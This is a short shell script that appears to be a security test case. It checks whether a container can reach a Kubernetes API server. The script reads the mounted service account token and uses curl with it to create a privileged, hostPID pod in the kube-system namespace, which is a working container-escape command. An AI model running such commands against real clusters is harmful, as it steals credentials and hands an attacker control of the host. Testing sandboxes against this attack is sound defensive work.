#!/bin/sh
. /opt/case/case.sh

bash -c '
token=$(</run/secrets/kubernetes.io/serviceaccount/token)
curl -sk -H "Authorization: Bearer $token" -H "Content-Type: application/json" -d "{\"kind\":\"Pod\",\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"x\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true}}]}}" http://10.77.0.1:6443/api/v1/namespaces/kube-system/pods >/tmp/reached'
test -s /tmp/reached
took_place
